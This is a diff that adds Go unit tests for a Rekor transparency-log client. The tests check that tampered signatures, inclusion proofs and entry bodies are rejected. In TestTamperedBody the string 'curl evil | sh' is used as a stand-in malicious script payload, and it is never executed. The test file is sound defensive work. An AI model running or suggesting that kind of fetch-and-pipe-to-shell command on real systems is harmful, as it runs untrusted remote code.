@@ -0,0 +1,235 @@
+//
+// Copyright 2021 The Sigstore Authors.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package rekor
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/pem"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/lukehinds/sap/pkg/rekor/rekortest"
+)
+
+// signed is a payload signed with a fresh key.
+type signed struct {
+	pubPEM    []byte
+	signature []byte
+	payload   []byte
+}
+
+func newSigned(t *testing.T, payload string) signed {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.MarshalPKIXPublicKey(key.Public())
+	if err != nil {
+		t.Fatal(err)
+	}
+	digest := sha256.Sum256([]byte(payload))
+	sig, err := ecdsa.SignASN1(rand.Reader, key, digest[:])
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signed{
+		pubPEM:    pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}),
+		signature: sig,
+		payload:   []byte(payload),
+	}
+}
+
+// upload logs s with the stand-in and returns the entry.
+func upload(t *testing.T, srv *rekortest.Server, s signed) *Entry {
+	t.Helper()
+	e, err := Upload(srv.URL, s.pubPEM, s.signature, s.payload)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+func TestUploadedEntryVerifies(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	upload(t, srv, newSigned(t, "echo first\n"))
+	s := newSigned(t, "echo hello\n")
+	e := upload(t, srv, s)
+	// Grow the log so the consistency check needs a proof
+	upload(t, srv, newSigned(t, "echo last\n"))
+
+	if e.LogIndex != 1 {
+		t.Errorf("LogIndex = %d, want 1", e.LogIndex)
+	}
+	if err := e.VerifySET(&srv.Key.PublicKey); err != nil {
+		t.Errorf("VerifySET: %v", err)
+	}
+	if err := e.VerifyInclusion(); err != nil {
+		t.Errorf("VerifyInclusion: %v", err)
+	}
+	if err := e.VerifyBody(s.pubPEM, s.signature, s.payload); err != nil {
+		t.Errorf("VerifyBody: %v", err)
+	}
+	if err := e.VerifyConsistency(srv.URL, &srv.Key.PublicKey); err != nil {
+		t.Errorf("VerifyConsistency: %v", err)
+	}
+
+	// Uploading the same signature again returns the existing entry
+	again := upload(t, srv, s)
+	if again.UUID != e.UUID || again.LogIndex != e.LogIndex {
+		t.Errorf("second upload returned %s at %d, want %s at %d", again.UUID, again.LogIndex, e.UUID, e.LogIndex)
+	}
+}
+
+func TestEntryRoundTrip(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	e := upload(t, srv, newSigned(t, "echo hello\n"))
+	file := filepath.Join(t.TempDir(), "rekor.json")
+	if err := WriteEntry(file, e); err != nil {
+		t.Fatal(err)
+	}
+	read, err := ReadEntry(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := read.VerifySET(&srv.Key.PublicKey); err != nil {
+		t.Errorf("VerifySET: %v", err)
+	}
+	if err := read.VerifyInclusion(); err != nil {
+		t.Errorf("VerifyInclusion: %v", err)
+	}
+}
+
+func TestBadSET(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	other := rekortest.NewServer(t)
+	e := upload(t, srv, newSigned(t, "echo hello\n"))
+
+	tests := []struct {
+		name   string
+		tamper func(e *Entry)
+		server *rekortest.Server
+	}{
+		{"other log key", func(e *Entry) {}, other},
+		{"integrated time", func(e *Entry) { e.IntegratedTime++ }, srv},
+		{"log index", func(e *Entry) { e.LogIndex++ }, srv},
+		{"signature", func(e *Entry) { e.SignedEntryTimestamp = base64.StdEncoding.EncodeToString([]byte("forged")) }, srv},
+		{"missing", func(e *Entry) { e.SignedEntryTimestamp = "" }, srv},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := *e
+			tt.tamper(&c)
+			if err := c.VerifySET(&tt.server.Key.PublicKey); err == nil {
+				t.Error("VerifySET succeeded")
+			}
+		})
+	}
+}
+
+func TestBadInclusionProof(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	for _, p := range []string{"echo a\n", "echo b\n", "echo c\n"} {
+		upload(t, srv, newSigned(t, p))
+	}
+	e := upload(t, srv, newSigned(t, "echo hello\n"))
+	if err := e.VerifyInclusion(); err != nil {
+		t.Fatalf("VerifyInclusion: %v", err)
+	}
+	zero := strings.Repeat("00", sha256.Size)
+
+	tests := []struct {
+		name   string
+		tamper func(p *InclusionProof)
+	}{
+		{"hash", func(p *InclusionProof) { p.Hashes = append([]string{zero}, p.Hashes[1:]...) }},
+		{"root hash", func(p *InclusionProof) { p.RootHash = zero }},
+		{"log index", func(p *InclusionProof) { p.LogIndex = 0 }},
+		{"tree size", func(p *InclusionProof) { p.TreeSize++ }},
+		{"missing hash", func(p *InclusionProof) { p.Hashes = p.Hashes[1:] }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := *e
+			proof := *e.InclusionProof
+			proof.Hashes = append([]string{}, e.InclusionProof.Hashes...)
+			tt.tamper(&proof)
+			c.InclusionProof = &proof
+			if err := c.VerifyInclusion(); err == nil {
+				t.Error("VerifyInclusion succeeded")
+			}
+		})
+	}
+
+	// The proof must be for the index the signed entry timestamp covers
+	c := *e
+	c.LogIndex++
+	if err := c.VerifyInclusion(); err == nil || !strings.Contains(err.Error(), "log index") {
+		t.Errorf("VerifyInclusion = %v, want an error about the log index", err)
+	}
+
+	// A root the log never had is not consistent with its tree head
+	c = *e
+	proof := *e.InclusionProof
+	proof.RootHash = zero
+	c.InclusionProof = &proof
+	if err := c.VerifyConsistency(srv.URL, &srv.Key.PublicKey); err == nil {
+		t.Error("VerifyConsistency succeeded")
+	}
+}
+
+func TestTamperedBody(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	s := newSigned(t, "echo hello\n")
+	e := upload(t, srv, s)
+
+	// Swap in the body logged for another script
+	other := upload(t, srv, newSigned(t, "curl evil | sh\n"))
+	c := *e
+	c.Body = other.Body
+	if err := c.VerifyInclusion(); err == nil || !strings.Contains(err.Error(), "UUID") {
+		t.Errorf("VerifyInclusion = %v, want an error about the UUID", err)
+	}
+	if err := c.VerifySET(&srv.Key.PublicKey); err == nil {
+		t.Error("VerifySET succeeded")
+	}
+	if err := c.VerifyBody(s.pubPEM, s.signature, s.payload); err == nil {
+		t.Error("VerifyBody succeeded")
+	}
+
+	// The genuine body only vouches for the signed script, signature and key
+	tests := []struct {
+		name string
+		s    signed
+	}{
+		{"script", signed{s.pubPEM, s.signature, []byte("curl evil | sh\n")}},
+		{"signature", signed{s.pubPEM, []byte("forged"), s.payload}},
+		{"key", signed{newSigned(t, "").pubPEM, s.signature, s.payload}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := e.VerifyBody(tt.s.pubPEM, tt.s.signature, tt.s.payload); err == nil {
+				t.Error("VerifyBody succeeded")
+			}
+		})
+	}
+}